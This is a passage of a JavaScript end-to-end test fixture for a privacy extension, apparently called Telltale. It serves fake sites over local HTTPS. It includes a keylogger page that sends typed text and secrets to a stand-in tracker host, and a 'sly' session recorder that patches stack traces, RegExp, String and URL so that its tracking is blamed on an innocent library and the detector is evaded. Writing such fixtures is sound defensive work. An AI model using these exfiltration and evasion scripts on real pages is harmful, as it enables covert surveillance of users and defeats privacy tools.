<iframe title="sandboxed srcdoc" sandbox="allow-scripts" srcdoc="${framePage(FRAMES.srcdoc).replace(/"/g, '&quot;')}"></iframe>
</body></html>`;
}

// secret.example: a page whose every channel carries a secret of the
// person's, for tests/e2e/privacy.mjs to look for in everything Telltale
// keeps, exports and shows. Its URL has a reset token in the query and
// another in the fragment; a third party sets a bare cookie (a value with no
// name, sent back as a bare `Cookie:` pair) and a named one; a beacon carries
// a secret in its query; a key logger sends what the person types in a query
// and in a body. The secrets are new each server run.
const secret = (what) => `Tt${what}${crypto.randomBytes(6).toString('hex')}`;
export const SECRET = {
  site: 'secret.example',
  tracker: 'px.secret-tracker.test',
  inbox: 'in.secret-tracker.test',
  values: {
    query: secret('Query'),
    fragment: secret('Frag'),
    bareCookie: secret('Bare'),
    cookieValue: secret('Cookie'),
    beacon: secret('Beacon'),
    typed: secret('Typed'),
    firstPartyCookie: secret('First'),
  },
};
THIRD_PARTIES[SECRET.tracker] = () => ({
  type: 'image/gif',
  body: GIF,
  headers: { 'set-cookie': [`${SECRET.values.bareCookie}; Path=/; Max-Age=86400; SameSite=None; Secure`, cookie('sid', SECRET.values.cookieValue)] },
});
THIRD_PARTIES[SECRET.inbox] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
function secretPage() {
  const v = SECRET.values;
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>secret – fixture</title></head><body>
<h1>Reset your password</h1>
<form onsubmit="return false"><label>Note <input id="q" autocomplete="off"></label></form>
<script>
  document.cookie = '${v.firstPartyCookie}; Path=/; Max-Age=600';
  var first = new Image();
  first.onload = function () { var again = new Image(); again.src = 'https://${SECRET.tracker}/p.gif?n=2'; document.body.append(again); };
  first.src = 'https://${SECRET.tracker}/p.gif?n=1';
  navigator.sendBeacon('https://${SECRET.inbox}/b?q=${v.beacon}', 'x');
  document.getElementById('q').addEventListener('input', function (e) {
    var value = e.target.value;
    new Image().src = 'https://${SECRET.inbox}/k?t=' + encodeURIComponent(value);
    fetch('https://${SECRET.inbox}/k', { method: 'POST', body: 'typed=' + value, mode: 'no-cors' });
  });
</script>
</body></html>`;
}

// An ad's click-through: a top-level navigation that redirects across sites,
// over two hops (an ad server, then the advertiser's tracking host), and
// lands on travel.example. The hops set cookies as such servers do.
export const CLICK = { start: 'https://go.click-hop.test/c?ad=42', hops: ['click-hop.test', 'brand-hop.test'], landing: 'travel.example' };
THIRD_PARTIES['go.click-hop.test'] = () => ({ status: 302, headers: { location: 'https://www.brand-hop.test/lp?ad=42', 'set-cookie': cookie('clk', 'c1ick9Xq72Lp') } });
THIRD_PARTIES['www.brand-hop.test'] = () => ({ status: 302, headers: { location: `https://${CLICK.landing}/`, 'set-cookie': cookie('lp', '1') } });

// ---------------------------------------------------------------- lists past their limits

/**
 * Rule lists on lists.example that a list loaded from a URL must not get past
 * (extension/shared/fetch-list.js): a redirect off https, a redirect to a good
 * list, a body that trickles past the time limit, a body larger than the cap
 * (streamed: never held whole by the server) and one that declares so.
 */
export const LIMITS = {
  toHttp: '/to-http.json', // 302 → http://lists.example/learned.json
  moved: '/moved.json', // 302 → https://lists.example/learned.json
  trickle: '/trickle.json', // headers at once, then a byte every 250 ms, for ever
  huge: '/huge.txt', // 40 MB of filters, chunked (no length)
  declared: '/declared.txt', // Content-Length: 40 MB, and one line of it
  bytes: 40 * 2 ** 20,
};

function streamFilters(res) {
  const chunk = Buffer.from('||huge-list.test^\n'.repeat(65536));
  let sent = 0;
  const more = () => {
    while (sent < LIMITS.bytes && !res.destroyed) {
      sent += chunk.length;
      if (!res.write(chunk)) {
        res.once('drain', more);
        return;
      }
    }
    if (!res.destroyed) res.end();
  };
  more();
}

function trickle(res) {
  res.write('[Adblock Plus 2.0]\n');
  const t = setInterval(() => res.write('!'), 250);
  res.on('close', () => clearInterval(t));
}

const LIST_LIMITS = {
  [LIMITS.toHttp]: () => ({ status: 302, headers: { location: 'http://lists.example/learned.json' } }),
  [LIMITS.moved]: () => ({ status: 302, headers: { location: 'https://lists.example/learned.json' } }),
  [LIMITS.trickle]: () => ({ type: 'text/plain', stream: trickle }),
  [LIMITS.huge]: () => ({ type: 'text/plain', stream: streamFilters }),
  // (Its first line is sent, as Chromium hands a page the answer with its first bytes.)
  [LIMITS.declared]: () => ({ type: 'text/plain', headers: { 'content-length': String(LIMITS.bytes) }, stream: (res) => res.write('[Adblock Plus 2.0]\n') }),
};

// A page with no script of its own, for pages made to flood (the test's script is the page's).
export const FLOOD = { site: 'flood.example' };
const floodPage = () => '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>flood – fixture</title></head><body><h1>Quiet until told</h1></body></html>';

// tricks.example and sly.example: pages whose scripts try to steer, read or
// hide from the probe, written for the tests. On tricks.example a harmless
// actor script (`window.__act`) does what a test asks while a test installs
// one trick at a time (tests/e2e/page-checks.mjs). On sly.example a session
// recorder installs every trick before it records, and tries to put the
// blame on an innocent library loaded from another host, which does nothing
// but define a helper.
export const TRICKS = {
  site: 'tricks.example',
  actor: 'act.trick-actor.test',
  sink: 'sink.trick-actor.test',
  innocent: 'lib.innocent-fixture.test',
  sly: 'sly.example',
  recorder: 'cdn.sly-recorder.test',
  ingest: 'ingest.sly-recorder.test',
};
// Its one helper that the probe sees is an event helper, as jQuery's .on is.
const INNOCENT_JS = `window.__lib = { version: '1.0', pad: function (s) { return ' ' + s; }, on: function (el, type, fn) { el.addEventListener(type, fn); } };\n`;
const ACT_JS = `window.__act = {
  listen: function (type) { document.body.addEventListener(type, function () {}); },
  send: function (url) { return fetch(url, { mode: 'no-cors' }).catch(function () {}); },
  beacon: function (url) { return navigator.sendBeacon(url, 'x'); },
  // What was typed in #secret, as its SHA-256 (the browser's), sent at once.
  sendHash: function (url) {
    return crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.getElementById('secret').value)).then(function (d) {
      var hex = ''; var b = new Uint8Array(d);
      for (var i = 0; i < b.length; i++) hex += (b[i] < 16 ? '0' : '') + b[i].toString(16);
      return navigator.sendBeacon(url, hex);
    });
  },
};
`;
// A script of a very long path (and a query): the probe reports at most 512 characters of its URL, and no query.
export const LONG_SCRIPT_PATH = `/${'a'.repeat(600)}/long.js`;
const LONG_JS = `document.body.addEventListener('select', function () {});\n`;
// The sly recorder: every trick first, counting what it saw of the probe, then recording.
const SLY_JS = `(function () {
  var INNOCENT = 'https://${TRICKS.innocent}/lib.js';
  var seen = { probeData: 0, reached: 0, names: [] };
  window.__sly = seen;
  var looks = function (v) {
    return (typeof v === 'string' && (v.indexOf('\\u0000') >= 0 || v.indexOf('-extension:') >= 0)) || (!!v && typeof v === 'object' && 'signal' in v);
  };
  var RealError = Error;
  // V8: a prepareStackTrace that blames the innocent library and reaches for the functions on the stack.
  RealError.prepareStackTrace = function (e, sites) {
    for (var i = 0; i < sites.length; i++) {
      var f = sites[i].getFunction();
      if (f && !/^https?:/.test(sites[i].getFileName() || '')) seen.reached++;
    }
    return 'Error\\n    at blame (' + INNOCENT + ':1:1)';
  };
  RealError.stackTraceLimit = 0;
  // An element setter on every array.
  Object.defineProperty(Array.prototype, '0', { configurable: true, get: function () { return undefined; }, set: function (v) {
    if (looks(v)) seen.probeData++;
    Object.defineProperty(this, '0', { value: v, writable: true, enumerable: true, configurable: true });
  } });
  // String, regexp and iteration that answer with the innocent library for anything that looks like a stack.
  var stacky = function (s) { return typeof s === 'string' && (s.indexOf('extension:') >= 0 || s.indexOf('<anonymous') >= 0 || s.indexOf(' at ') >= 0); };
  var exec = RegExp.prototype.exec;
  RegExp.prototype.exec = function (s) {
    if (stacky(s)) { seen.probeData++; var m = [INNOCENT + ':1:1', INNOCENT]; m.index = 0; m.input = s; return m; }
    return exec.call(this, s);
  };
  var split = String.prototype.split;
  String.prototype.split = function (sep, limit) {
    if (stacky(String(this))) { seen.probeData++; return ['    at blame (' + INNOCENT + ':1:1)']; }
    return split.call(this, sep, limit);
  };
  var values = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function () {
    if (this.length && stacky(this[0])) { seen.probeData++; return values.call(['    at blame (' + INNOCENT + ':1:1)']); }
    return values.call(this);
  };
  var host = Object.getOwnPropertyDescriptor(URL.prototype, 'hostname');
  Object.defineProperty(URL.prototype, 'hostname', { configurable: true, enumerable: true, get: function () { return '${TRICKS.innocent}'; }, set: host.set });
  // Firefox: the stack every error shows, and the global Error itself.
  var stack = Object.getOwnPropertyDescriptor(RealError.prototype, 'stack');
  if (stack) Object.defineProperty(RealError.prototype, 'stack', { configurable: true, get: function () { return 'blame@' + INNOCENT + ':1:1\\n'; }, set: stack.set });
  window.Error = function Error() { return { stack: 'blame@' + INNOCENT + ':1:1\\n    at blame (' + INNOCENT + ':1:1)' }; };
  // A function whose name is a frame of the innocent library (SpiderMonkey prints names as they are).
  var named = {};
  named['blame@' + INNOCENT + ':1:1\\nrecord'] = function (target, type, fn) { target.addEventListener(type, fn, true); };
  var on = named['blame@' + INNOCENT + ':1:1\\nrecord'];
  // Code the probe runs while converting an argument: reaches for the functions on the stack.
  var type = { toString: function () { RealError.stackTraceLimit = 20; new RealError().stack; RealError.stackTraceLimit = 0; return 'keydown'; } };
  // Then it records, as session recorders do.
  var queue = [];
  on(document, 'mousemove', function (e) { queue.push([e.clientX, e.clientY]); });
  on(window, 'scroll', function () { queue.push(['s']); });
  document.addEventListener(type, function () { queue.push(['k']); }, true);
  on(document, 'input', function (e) { queue.push(['i', e.target.value.length]); });
  new MutationObserver(function (m) { queue.push(['m', m.length]); }).observe(document, { childList: true, subtree: true, attributes: true });
  setInterval(function () { if (queue.length) fetch('https://${TRICKS.ingest}/b', { method: 'POST', body: JSON.stringify(queue.splice(0)), mode: 'no-cors' }); }, 300);
})();
`;
THIRD_PARTIES[TRICKS.innocent] = () => ({ type: 'text/javascript', body: INNOCENT_JS });
THIRD_PARTIES[TRICKS.actor] = (req, url) => ({ type: 'text/javascript', body: url.pathname === LONG_SCRIPT_PATH ? LONG_JS : ACT_JS });
THIRD_PARTIES[TRICKS.recorder] = () => ({ type: 'text/javascript', body: SLY_JS });
for (const h of [TRICKS.sink, TRICKS.ingest]) THIRD_PARTIES[h] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
const tricksPage = () => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>tricks – fixture</title></head><body>
<h1>Tricks</h1>
<form onsubmit="return false"><label>Password <input id="secret" type="password" autocomplete="off"></label></form>
<script src="https://${TRICKS.innocent}/lib.js"></script>
<script src="https://${TRICKS.actor}/act.js?v=3&amp;user=someone#top"></script>
<script src="https://${TRICKS.actor}${LONG_SCRIPT_PATH}?user=someone"></script>
</body></html>`;
const slyPage = () => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>sly – fixture</title>
<style>body { margin: 2em; min-height: 200vh; }</style></head><body>
<h1>Sly</h1>
<form onsubmit="return false"><label>Search <input id="q" autocomplete="off"></label></form>
<div id="feed"></div>
<script src="https://${TRICKS.innocent}/lib.js"></script>
<script src="https://${TRICKS.recorder}/s.js"></script>
<script>setTimeout(function () { document.getElementById('feed').textContent = 'updated'; }, 200);</script>
</body></html>`;

for (const h of [...HEAVY.hosts, HEAVY.longHost, DRIP.host]) THIRD_PARTIES[h] = () => ({ type: 'image/gif', body: GIF });
const PAGES = { [SECRET.site]: secretPage, [FLOOD.site]: floodPage, [TRICKS.site]: tricksPage, [TRICKS.sly]: slyPage, [FRAMES.site]: framesPage, [HEAVY.site]: heavyPage, [DRIP.site]: dripPage, [OPTOUT.site]: optoutPage, [BEHAVE.site]: behavePage, [RRWEB.site]: rrwebPage, [SCRIPT_HEAVY.site]: scriptHeavyPage, [SYNC.site]: syncPage };

// ---------------------------------------------------------------- the server

/** Every host the server answers for (the certificate names each). */
export const HOSTS = [...Object.keys(SITES), HOSTILE.site, ...Object.keys(PAGES), ...Object.keys(THIRD_PARTIES)];

/** A self-signed certificate for `hosts` (the fixture web's by default), made by openssl into `dir`. */
export function makeCertificate(dir, hosts = HOSTS) {
  const key = path.join(dir, 'key.pem');
  const cert = path.join(dir, 'cert.pem');
  const san = hosts.map((h) => `DNS:${h}`).join(',');
  execFileSync('openssl', [
    'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes',
    '-days', '2', '-subj', '/CN=telltale-fixture-web', '-addext', `subjectAltName=${san}`,
    '-keyout', key, '-out', cert,
  ], { stdio: ['ignore', 'ignore', 'pipe'], timeout: 20_000 });
  return { key: fs.readFileSync(key), cert: fs.readFileSync(cert) };
}

function refererSite(req) {
  try {
    return siteOf(new URL(req.headers.referer).hostname);
  } catch {
    return null;
  }
}

/**
 * Starts the fixture web on a free loopback port. Returns `{port, log, plain, close}`;
 * `plain` is the time of each plain-http request that reached the https port;
 * `log` is every request, in order: `{host, site, path, method, page, from, dest, cookie, gpc, dnt}`.
 */
export async function startFixtureWeb() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'telltale-fixture-'));
  const { key, cert } = makeCertificate(dir);
  const log = [];
  // Request lines of up to 1 MB: heavy.example requests 100 KB URLs.
  const server = https.createServer({ key, cert, maxHeaderSize: 1 << 20 }, (req, res) => {
    const host = String(req.headers.host || '').replace(/:\d+$/, '').toLowerCase();
    let url;
    try {
      url = new URL(req.url, `https://${host || 'invalid'}`);
    } catch {
      res.writeHead(400).end();
      return;
    }
    const ref = refererSite(req);
    const page = url.searchParams.get('tt_page') || ref;
    const from = url.searchParams.get('tt_from') || ref;
    log.push({
      time: Date.now(), host, site: siteOf(host), path: url.pathname, query: url.search, method: req.method,
      page, from, dest: req.headers['sec-fetch-dest'] || '', cookie: req.headers.cookie || '',
      gpc: req.headers['sec-gpc'] || '', dnt: req.headers.dnt || '',
    });
    req.resume();
    const common = { 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' };
    if (SITES[host] || host === HOSTILE.site || PAGES[host]) {
      if (url.pathname !== '/') {
        res.writeHead(404, common).end();
        return;
      }
      const body = PAGES[host] ? PAGES[host](url) : host === HOSTILE.site ? hostilePage() : sitePage(host, url.search.slice(1));
      res.writeHead(200, { ...common, 'content-type': 'text/html; charset=utf-8' }).end(body);
      return;
    }
    const handler = THIRD_PARTIES[host];
    if (!handler) {
      res.writeHead(404, common).end();
      return;
    }
    const r = handler(req, url, page || '');
    if (r.hang) return;
    const headers = { ...common, ...(r.headers || {}) };
    if (r.type) headers['content-type'] = r.type;
    res.writeHead(r.status || 200, headers);
    if (r.stream) r.stream(res);
    else res.end(r.body);
  });
  // Plain http that reached this (https) port: OpenSSL names it. Counted, by time.
  const plain = [];
  server.on('tlsClientError', (err, socket) => {
    if (err.code === 'ERR_SSL_HTTP_REQUEST') plain.push(Date.now());
    socket.destroy();
  });
  server.keepAliveTimeout = 1000;
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  const { port } = server.address();
  return {
    port,
    log,
    plain,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(() => resolve()));
      fs.rmSync(dir, { recursive: true, force: true });
    },
  };
}

// `node tests/e2e/fixture-web.mjs` serves the web until interrupted (for looking at it by hand).
if (import.meta.url === `file://${process.argv[1]}`) {
  const web = await startFixtureWeb();
  console.log(`fixture web on https://127.0.0.1:${web.port}; hosts: ${HOSTS.join(' ')}`);
  process.on('SIGINT', () => web.close().then(() => process.exit(0)));
}
